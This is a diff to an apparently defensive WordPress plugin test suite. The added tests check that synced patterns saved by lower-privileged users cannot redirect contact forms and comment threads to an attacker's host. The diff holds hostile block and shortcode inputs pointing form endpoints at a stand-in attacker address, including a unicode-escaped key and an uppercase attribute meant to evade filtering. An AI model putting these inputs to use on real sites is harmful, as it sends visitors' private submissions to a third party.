@@ -30,12 +30,16 @@ after(async () => {
   await browser?.close();
 });
 
-/** Logs in as `who` and creates (or, with `id`, updates) a post through /wp/v2/posts, as the block editor does. */
-async function write(who, { id, content, status }) {
+/**
+ * Logs in as `who` and creates (or, with `id`, updates) a post through /wp/v2/posts (or a synced
+ * pattern through /wp/v2/blocks), as the block editor does. Resolves to the id, or with `answer`
+ * to WordPress's whole answer.
+ */
+async function write(who, { id, content, status, type = 'posts', answer = false }) {
   const page = await login(browser, who.login, who.password);
   try {
     const nonce = await page.evaluate(async (url) => (await fetch(url)).text(), `${site.url}/wp-admin/admin-ajax.php?action=rest-nonce`);
-    const route = `${site.url}/?rest_route=/wp/v2/posts${id ? `/${id}` : ''}`;
+    const route = `${site.url}/?rest_route=/wp/v2/${type}${id ? `/${id}` : ''}`;
     const res = await page.evaluate(
       async (url, nonce, body) => {
         const r = await fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-WP-Nonce': nonce }, body: JSON.stringify(body) });
@@ -45,6 +49,7 @@ async function write(who, { id, content, status }) {
       nonce,
       { title: `${who.login}'s post`, content, ...(status ? { status } : {}) },
     );
+    if (answer) return res;
     assert.ok(res.status === 200 || res.status === 201, JSON.stringify(res));
     return res.json.id;
   } finally {
@@ -54,11 +59,11 @@ async function write(who, { id, content, status }) {
 
 const tags = (html) => html.match(/<firm-(contact-form|comments)[^>]*>/g) ?? [];
 
-/** The post as a visitor gets it: no attacker address anywhere, every form and thread on the site. */
-async function assertSiteOnly(id) {
+/** The post as a visitor gets it: no attacker address anywhere, every form and thread (`count` of them) on the site. */
+async function assertSiteOnly(id, count = 3) {
   const html = (await send(`${site.url}/?p=${id}`)).body;
   const found = tags(html);
-  assert.equal(found.length, 3, html.slice(0, 300));
+  assert.equal(found.length, count, html.slice(0, 300));
   assert.ok(!html.includes(ATTACKER), `no ${ATTACKER} in the page: ${found.join(' ')}`);
   for (const tag of found) {
     assert.match(tag, / source="wordpress"/);
@@ -69,7 +74,7 @@ async function assertSiteOnly(id) {
   const visitor = await visit(browser, `/?p=${id}`);
   try {
     const endpoints = await visitor.$$eval('firm-contact-form, firm-comments', (els) => els.map((el) => `${el.source} ${el.endpoint} ${el.to ?? ''}`.trim()));
-    assert.deepEqual(endpoints, Array(3).fill(`wordpress ${site.url}/`));
+    assert.deepEqual(endpoints, Array(count).fill(`wordpress ${site.url}/`));
   } finally {
     await visitor.leave();
   }
@@ -108,4 +113,73 @@ test("an Editor without unfiltered_html (as on a network) who edits an Administr
   } finally {
     php(`get_role('editor')->add_cap('unfiltered_html'); return true;`);
   }
+});
+
+// Synced patterns (wp_block posts) are shown inside other people's posts: the pattern's own author
+// decides, not the post's, and whoever lacks unfiltered_html saves no address in any post type.
+const HOSTILE_BLOCKS = [
+  `<!-- wp:firm-widgets/contact-form {"source":"rest","endpoint":"https://${ATTACKER}/block","keepDrafts":"device"} /-->`,
+  `<!-- wp:firm-widgets/comments {"source":"rest","\\u0065ndpoint":"https://${ATTACKER}/block-comments","keep_drafts":"device"} /-->`,
+].join('\n\n');
+const HOSTILE_PATTERN = `${HOSTILE}\n\n[firm_contact_form SOURCE='rest' Endpoint=https://${ATTACKER}/upper]\n\n${HOSTILE_BLOCKS}`;
+const PATTERN_TAGS = 6;
+
+/** An Administrator's published post that shows synced pattern `ref`. */
+function adminPostShowing(ref) {
+  return php(
+    `wp_set_current_user($input['admin']); return wp_insert_post(array('post_title' => 'Shows a pattern', 'post_status' => 'publish', 'post_content' => '<!-- wp:block {"ref":' . (int) $input['ref'] . '} /-->'));`,
+    { admin: site.admin.id, ref },
+  );
+}
+
+/** A synced pattern stored as it was written, without the plugin's save filter (saved before it existed). */
+function storedPattern(author, content) {
+  const id = php(`return wp_insert_post(array('post_type' => 'wp_block', 'post_title' => 'Old pattern', 'post_status' => 'publish', 'post_author' => $input));`, author.id);
+  site.sql(`UPDATE wp_posts SET post_content = '${content.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}' WHERE ID = ${id}`);
+  php(`clean_post_cache($input); return true;`, id);
+  return id;
+}
+
+const storedContent = (id) => php(`return get_post_field('post_content', $input, 'raw');`, id);
+
+test("an Author's synced pattern with a hostile endpoint, shown in an Administrator's post, sends visitors' words only to the site", async () => {
+  const ref = await write(people.author, { type: 'blocks', content: HOSTILE_PATTERN, status: 'publish' });
+  assert.equal(php(`return get_post_type($input);`, ref), 'wp_block');
+  const saved = storedContent(ref);
+  assert.ok(!saved.includes(ATTACKER), `saved without the addresses: ${saved}`);
+  assert.match(saved, /\[firm_contact_form\s*\]/, 'the shortcodes stay');
+  assert.match(saved, /wp:firm-widgets\/comments/, 'the blocks stay');
+  await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
+});
+
+test("a Contributor's synced pattern (one of their own drafts) is saved without addresses, and shows none once published", async () => {
+  // WordPress lets only people who publish create synced patterns…
+  const refused = await write(people.contributor, { type: 'blocks', content: HOSTILE_PATTERN, status: 'draft', answer: true });
+  assert.equal(refused.status, 403, JSON.stringify(refused));
+  // …but a Contributor still edits a draft pattern of their own (made while they were an Author).
+  const ref = php(`return wp_insert_post(array('post_type' => 'wp_block', 'post_title' => 'Mine', 'post_status' => 'draft', 'post_author' => $input, 'post_content' => '[firm_contact_form]'));`, people.contributor.id);
+  await write(people.contributor, { type: 'blocks', id: ref, content: HOSTILE_PATTERN });
+  const saved = storedContent(ref);
+  assert.ok(!saved.includes(ATTACKER), `saved without the addresses: ${saved}`);
+  site.sql(`UPDATE wp_posts SET post_status = 'publish' WHERE ID = ${ref}`);
+  php(`clean_post_cache($input); return true;`, ref);
+  await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
+});
+
+test("a Contributor's and an Author's synced pattern saved with addresses before this check still shows none in an Administrator's post", async () => {
+  for (const who of [people.contributor, people.author]) {
+    const ref = storedPattern(who, HOSTILE_PATTERN);
+    assert.ok(storedContent(ref).includes(ATTACKER), 'the hostile content is stored');
+    await assertSiteOnly(adminPostShowing(ref), PATTERN_TAGS);
+  }
+});
+
+test("an Administrator's synced pattern keeps its addresses, in an Author's post too", async () => {
+  const ref = await write({ ...site.admin }, { type: 'blocks', content: HOSTILE_BLOCKS, status: 'publish' });
+  const post = await write(people.author, { content: `<!-- wp:block {"ref":${ref}} /-->`, status: 'publish' });
+  const found = tags((await send(`${site.url}/?p=${post}`)).body);
+  assert.deepEqual(found, [
+    `<firm-contact-form source="rest" endpoint="https://${ATTACKER}/block" class="wp-block-firm-widgets-contact-form" keep-drafts="device">`,
+    `<firm-comments source="rest" endpoint="https://${ATTACKER}/block-comments" post-id="${post}" class="wp-block-firm-widgets-comments" keep-drafts="device">`,
+  ]);
 });
